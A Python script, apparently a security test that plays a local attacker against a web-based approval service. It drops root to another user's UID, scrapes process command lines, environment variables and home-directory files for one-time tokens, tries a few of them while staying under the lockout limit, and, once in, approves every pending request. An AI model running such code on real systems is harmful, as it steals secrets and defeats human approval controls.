"""Another user of the machine, who wants to say yes: `neighbour.py UID PORT HOME`, started as root, which it gives up.

It reads every command line and environment it is shown and every file below HOME that it may, tries whatever looks like
a one-time token at the page, says yes to all that waits if one lets it in, and prints what came of it.
"""

from __future__ import annotations

import http.client
import json
import os
import re
import sys
from pathlib import Path
from typing import Any

LOOKS_LIKE_A_TOKEN = re.compile(rb"(?<![\w-])[\w-]{43}(?![\w-])")
MOST_TRIES = 3
"""Fewer than lock the page: a lockout must not be what saves it."""


def ask(port: int, method: str, path: str, body: Any = None, **headers: str) -> tuple[int, Any, str]:
    """One request as the page itself would send it: the status, the answer, and the cookie."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    sent = {"Origin": f"http://127.0.0.1:{port}", "Content-Type": "application/json"}
    sent |= {name.replace("_", "-"): value for name, value in headers.items()}
    connection.request(method, path, None if body is None else json.dumps(body), sent)
    answer = connection.getresponse()
    content = json.loads(answer.read())
    connection.close()
    return answer.status, content, (answer.getheader("Set-Cookie") or "").partition(";")[0]


def look(paths: list[Path]) -> dict[str, bytes]:
    """What can be read of some files."""
    read: dict[str, bytes] = {}
    for path in paths:
        try:
            read[str(path)] = path.read_bytes()
        except OSError:
            continue
    return read


def below(home: Path) -> list[Path]:
    """Every file below a directory that shows itself."""
    return [Path(folder) / name for folder, _, names in os.walk(home) for name in names]


def say_yes(port: int, key: str, cookie: str) -> list[int]:
    """Approve everything that waits."""
    mine = {"X_Approval_Key": key, "Cookie": cookie}
    decided = []
    for one in ask(port, "GET", "/api/approvals", **mine)[1]["pending"]:
        digest = ask(port, "GET", f"/api/approvals/{one['id']}", **mine)[1]["digest"]
        ask(port, "GET", f"/api/approvals/{one['id']}/message", **mine)
        version = ask(port, "POST", f"/api/approvals/{one['id']}/shown", {}, **mine)[1]["status"]["version"]
        yes = {"decision": "approve", "digest": digest, "version": version}
        decided.append(ask(port, "POST", f"/api/approvals/{one['id']}/decision", yes, **mine)[0])
    return decided


def main(uid: int, port: int, home: Path) -> dict[str, Any]:
    # Known already where the interpreter itself is out of this user's reach.
    ask(port, "GET", "/api/session")
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    processes = [path for path in Path("/proc").iterdir() if path.name.isdigit()]
    command_lines = look([path / "cmdline" for path in processes])
    environments = look([path / "environ" for path in processes])
    files = look(below(home))
    guesses = {
        found
        for text in (*command_lines.values(), *environments.values(), *files.values())
        for found in LOOKS_LIKE_A_TOKEN.findall(text)
    }
    # What follows a `t=` is one for sure.
    seen = b"\0".join((*command_lines.values(), *files.values()))
    sorted_guesses = sorted(guesses, key=lambda guess: b"t=" + guess not in seen)
    tries = [guess.decode() for guess in sorted_guesses[:MOST_TRIES]] or ["", "0" * 43]
    statuses, decided = [], []
    for token in tries:
        status, content, cookie = ask(port, "POST", "/api/session", {"token": token})
        statuses.append(status)
        if status == 200:
            decided += say_yes(port, content["key"], cookie)
    return {
        "command_lines": [text.decode("utf-8", "replace") for text in command_lines.values()],
        "files": sorted(files),
        "tried": statuses,
        "without a session": ask(port, "GET", "/api/approvals")[0],
        "decided": decided,
    }


if __name__ == "__main__":
    json.dump(main(int(sys.argv[1]), int(sys.argv[2]), Path(sys.argv[3])), sys.stdout)
